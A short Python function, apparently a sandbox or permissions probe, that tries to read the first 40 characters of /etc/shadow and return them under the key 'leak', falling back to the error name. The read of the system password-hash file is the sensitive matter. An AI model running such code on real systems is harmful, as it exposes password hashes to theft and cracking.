def main():
    try:
        return {'leak': open('/etc/shadow').read()[:40]}
    except OSError as e:
        return {'err': type(e).__name__}
